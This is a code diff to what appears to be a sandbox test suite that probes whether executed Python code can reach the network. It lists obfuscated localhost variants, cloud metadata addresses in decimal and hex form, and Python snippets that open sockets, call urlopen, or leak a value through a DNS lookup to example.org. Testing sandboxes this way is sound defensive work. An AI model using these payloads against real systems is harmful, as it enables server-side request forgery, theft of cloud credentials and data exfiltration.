@@ -1,6 +1,6 @@
-import { each, fails, type Technique } from "../attack.ts";
+import { each, REACHED, type Technique } from "../attack.ts";
 
-const HOSTS = [
+export const HOSTS = [
   "127.0.0.1",
   "localhost",
   "LOCALHOST.",
@@ -22,7 +22,7 @@ const HOSTS = [
   "127.0.0.1%00.example.org",
   "１２７.０.０.１",
 ];
-const METADATA = [
+export const METADATA = [
   "http://169.254.169.254/latest/meta-data/",
   "http://2852039166/latest/meta-data/",
   "http://0xa9fea9fe/",
@@ -32,17 +32,17 @@ const METADATA = [
   "http://100.100.100.200/latest/meta-data/",
 ];
 
-const reach = (url: string) => `import urllib.request\nprint(urllib.request.urlopen(${url}, timeout=2).read())`;
+export const reach = (url: string) => `import urllib.request\nprint(urllib.request.urlopen(${url}, timeout=2).read())`;
 
 export const NETWORK: Technique = {
   title: "network",
+  controls: ["native"],
   attacks: [
     ...HOSTS.map((host) => ({
       name: `urlopen http://${host}:PORT/`,
       code: reach(`f"http://${host}:{port}/"`),
-      reply: fails,
     })),
-    ...METADATA.map((url) => ({ name: `urlopen ${url}`, code: reach(JSON.stringify(url)), reply: fails })),
+    ...METADATA.map((url) => ({ name: `urlopen ${url}`, code: reach(JSON.stringify(url)) })),
     ...each(
       [
         "import socket\ns = socket.create_connection(('127.0.0.1', port), 2); print(s.recv(1000))",
@@ -68,7 +68,8 @@ export const NETWORK: Technique = {
         "import logging.handlers\nh = logging.handlers.SysLogHandler(('127.0.0.1', port), socktype=__import__('socket').SOCK_STREAM); h.emit(logging.makeLogRecord({})); 1 / 0",
         "import socketserver\nsocketserver.TCPServer(('127.0.0.1', 0), None); print(won)",
       ],
-      { reply: fails },
+      {},
+      { after: REACHED },
     ),
     ...each([
       "import socket\nprint(socket.gethostbyname('leak.' + won[:0] + 'example.org'))",
